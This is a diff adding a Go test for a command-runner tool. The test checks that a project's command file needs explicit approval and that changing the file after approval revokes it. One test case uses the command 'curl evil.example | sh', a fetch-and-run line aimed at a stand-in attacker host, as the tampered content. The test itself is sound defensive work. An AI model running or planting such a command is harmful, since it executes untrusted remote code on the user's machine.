@@ -0,0 +1,66 @@
+package main
+
+import (
+	"commandref/config"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestProjectAllow(t *testing.T) {
+	t.Setenv("COMMANDREF_HOME", t.TempDir())
+	cfg = &config.Config{}
+	dir := t.TempDir()
+	t.Chdir(dir)
+	file := filepath.Join(dir, projectFileName)
+	write := func(cmd string) {
+		src := "commands:\n  - title: Build\n    command: " + cmd + "\n"
+		if err := os.WriteFile(file, []byte(src), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	allow := func() {
+		_, hash, err := loadProjectFile(file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		m := loadAllowedProjects()
+		m[file] = allowedProject{Hash: hash}
+		if err := saveAllowedProjects(m); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	tests := []struct {
+		name    string
+		setup   func()
+		wantCmd string // of p1; "" when the file isn't allowed
+		wantErr string
+	}{
+		{"new file", func() { write("go build ./...") }, "", "isn't allowed"},
+		{"allowed", allow, "go build ./...", ""},
+		{"changed since", func() { write("curl evil.example | sh") }, "", "changed since you allowed it"},
+		{"allowed again", allow, "curl evil.example | sh", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tt.setup()
+			projectWarned = true // keep the test output quiet
+			items := projectItems()
+			it, err := getProjectItem(-1)
+			if tt.wantErr != "" {
+				if len(items) != 0 {
+					t.Errorf("listed %d project commands", len(items))
+				}
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Errorf("p1: err = %v, want %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil || it.Command != tt.wantCmd || len(items) != 1 {
+				t.Errorf("p1 = %v, %v (%d listed), want %q", it, err, len(items), tt.wantCmd)
+			}
+		})
+	}
+}